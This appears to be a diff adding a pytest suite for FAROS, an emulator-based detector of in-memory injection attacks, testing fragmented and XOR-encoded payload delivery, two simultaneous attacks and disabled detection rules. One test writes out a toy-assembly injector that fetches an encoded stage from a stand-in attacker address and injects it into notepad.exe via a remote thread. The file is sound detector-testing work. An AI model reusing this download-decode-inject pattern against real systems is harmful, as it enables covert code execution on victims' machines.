@@ -1,0 +1,222 @@
+"""Detection robustness: fragmentation, concurrency, rule configuration.
+
+These probe the detector under conditions the happy-path scenarios
+don't: payloads split across many packets, two independent attacks on
+one machine, XOR-encoded stages, and selectively disabled rules.
+"""
+
+import pytest
+
+from repro.attacks import (
+    build_process_hollowing_scenario,
+    build_reflective_dll_scenario,
+)
+from repro.attacks.common import (
+    ATTACKER_IP,
+    ATTACKER_PORT,
+    FIRST_EPHEMERAL_PORT,
+    GUEST_IP,
+    PAYLOAD_BASE,
+    assemble_image,
+    benign_host_asm,
+    recv_exact_asm,
+)
+from repro.attacks.metasploit import _injector_asm
+from repro.attacks.payloads import PAYLOAD_ENTRY_OFFSET, build_popup_payload
+from repro.emulator.devices import Packet
+from repro.emulator.record_replay import PacketEvent, Scenario
+from repro.faros import DetectionConfig, Faros
+
+
+class TestFragmentedDelivery:
+    """The stage arrives in many small TCP segments; taint must survive
+    reassembly through the recv loop."""
+
+    def build(self, fragment_size):
+        stage = build_popup_payload(PAYLOAD_BASE)
+        payload = stage.code
+
+        def setup(machine):
+            machine.kernel.register_image(
+                "notepad.exe", assemble_image(benign_host_asm("np up"))
+            )
+            machine.kernel.spawn("notepad.exe")
+            machine.kernel.register_image(
+                "inject_client.exe",
+                assemble_image(_injector_asm(len(payload), "notepad.exe")),
+            )
+            machine.kernel.spawn("inject_client.exe")
+
+        events = []
+        tick = 20_000
+        for off in range(0, len(payload), fragment_size):
+            chunk = payload[off : off + fragment_size]
+            events.append(
+                (
+                    tick,
+                    PacketEvent(
+                        Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP,
+                               FIRST_EPHEMERAL_PORT, chunk)
+                    ),
+                )
+            )
+            tick += 500
+        return Scenario(name="frag", setup=setup, events=events, max_instructions=500_000)
+
+    @pytest.mark.parametrize("fragment_size", [16, 64, 333])
+    def test_fragmented_stage_still_flagged(self, fragment_size):
+        faros = Faros()
+        machine = self.build(fragment_size).run(plugins=[faros])
+        assert faros.attack_detected
+        chain = faros.report().chains()[0]
+        assert chain.netflow is not None
+        notepad = next(
+            p for p in machine.kernel.processes.values() if p.name == "notepad.exe"
+        )
+        assert any("meterpreter stage alive" in line for line in notepad.console)
+
+
+class TestXorEncodedStage:
+    """The stage travels XOR-encoded and is decoded in the injector --
+    the Table I computation rule must carry netflow through the XOR."""
+
+    def test_encoded_stage_still_flagged(self):
+        key = 0xA7
+        stage = build_popup_payload(PAYLOAD_BASE)
+        encoded = bytes(b ^ key for b in stage.code)
+        size = len(encoded)
+
+        injector = f"""
+        start:
+            movi r0, SYS_SOCKET
+            syscall
+            mov r7, r0
+            mov r1, r7
+            movi r2, attacker_ip
+            movi r3, {ATTACKER_PORT}
+            movi r0, SYS_CONNECT
+            syscall
+{recv_exact_asm("r7", "buf", size, "enc")}
+            ; decode in place
+            movi r1, buf
+            movi r2, {size}
+        dec:
+            ldb r3, [r1]
+            xori r3, r3, {key}
+            stb [r1], r3
+            addi r1, r1, 1
+            subi r2, r2, 1
+            cmpi r2, 0
+            jnz dec
+            ; standard injection
+            movi r1, target
+            movi r0, SYS_FIND_PROCESS
+            syscall
+            mov r1, r0
+            movi r0, SYS_OPEN_PROCESS
+            syscall
+            mov r6, r0
+            mov r1, r6
+            movi r2, {size}
+            movi r3, PERM_RWX
+            movi r4, {PAYLOAD_BASE:#x}
+            movi r0, SYS_ALLOC_VM
+            syscall
+            mov r1, r6
+            movi r2, {PAYLOAD_BASE:#x}
+            movi r3, buf
+            movi r4, {size}
+            movi r0, SYS_WRITE_VM
+            syscall
+            mov r1, r6
+            movi r2, {PAYLOAD_BASE + PAYLOAD_ENTRY_OFFSET:#x}
+            movi r3, 0
+            movi r0, SYS_CREATE_REMOTE_THREAD
+            syscall
+            movi r1, 0
+            movi r0, SYS_EXIT
+            syscall
+        attacker_ip: .asciz "{ATTACKER_IP}"
+        target: .asciz "notepad.exe"
+        buf: .space {size}
+        """
+
+        def setup(machine):
+            machine.kernel.register_image(
+                "notepad.exe", assemble_image(benign_host_asm("np"))
+            )
+            machine.kernel.spawn("notepad.exe")
+            machine.kernel.register_image("crypter.exe", assemble_image(injector))
+            machine.kernel.spawn("crypter.exe")
+
+        scenario = Scenario(
+            name="xor_stage",
+            setup=setup,
+            events=[
+                (20_000, PacketEvent(Packet(ATTACKER_IP, ATTACKER_PORT, GUEST_IP,
+                                            FIRST_EPHEMERAL_PORT, encoded)))
+            ],
+            max_instructions=600_000,
+        )
+        faros = Faros()
+        machine = scenario.run(plugins=[faros])
+        assert faros.attack_detected
+        chain = faros.report().chains()[0]
+        assert chain.netflow is not None  # XOR did not launder the taint
+        assert "crypter.exe" in chain.process_chain
+
+
+class TestTwoAttacksOneMachine:
+    def test_both_attacks_flagged_independently(self):
+        """A hollowing attack and a reflective injection in one guest:
+        FAROS reports both, each with its own chain."""
+        reflective = build_reflective_dll_scenario()
+        hollowing = build_process_hollowing_scenario()
+
+        def setup(machine):
+            reflective.scenario.setup(machine)
+            hollowing.scenario.setup(machine)
+
+        events = list(reflective.scenario.events) + [
+            (at + 5_000, ev) for at, ev in hollowing.scenario.events
+        ]
+        combined = Scenario(
+            name="double_attack",
+            setup=setup,
+            events=events,
+            max_instructions=900_000,
+        )
+        faros = Faros()
+        combined.run(plugins=[faros])
+        executors = {f.executing_process for f in faros.detector.flagged}
+        assert "notepad.exe" in executors
+        assert "svchost.exe" in executors
+
+
+class TestDetectionConfig:
+    def test_netflow_rule_disabled_misses_reflective(self):
+        faros = Faros(detection=DetectionConfig(netflow_rule=False,
+                                                cross_process_rule=False))
+        build_reflective_dll_scenario().scenario.run(plugins=[faros])
+        assert not faros.attack_detected
+
+    def test_cross_process_rule_alone_catches_reflective(self):
+        # Even without the netflow rule, remote injection trips R2.
+        faros = Faros(detection=DetectionConfig(netflow_rule=False,
+                                                cross_process_rule=True))
+        build_reflective_dll_scenario().scenario.run(plugins=[faros])
+        assert faros.attack_detected
+        assert faros.detector.flagged[0].rule == "cross-process+export-table"
+
+    def test_cross_process_rule_disabled_misses_hollowing(self):
+        faros = Faros(detection=DetectionConfig(netflow_rule=True,
+                                                cross_process_rule=False))
+        build_process_hollowing_scenario().scenario.run(plugins=[faros])
+        assert not faros.attack_detected
+
+    def test_flag_dedup_bounds_report_size(self):
+        # The resolver loop reads the whole export table; dedup must keep
+        # the report to a handful of rows, not one per comparison.
+        faros = Faros()
+        build_reflective_dll_scenario().scenario.run(plugins=[faros])
+        assert 0 < len(faros.detector.flagged) <= 10
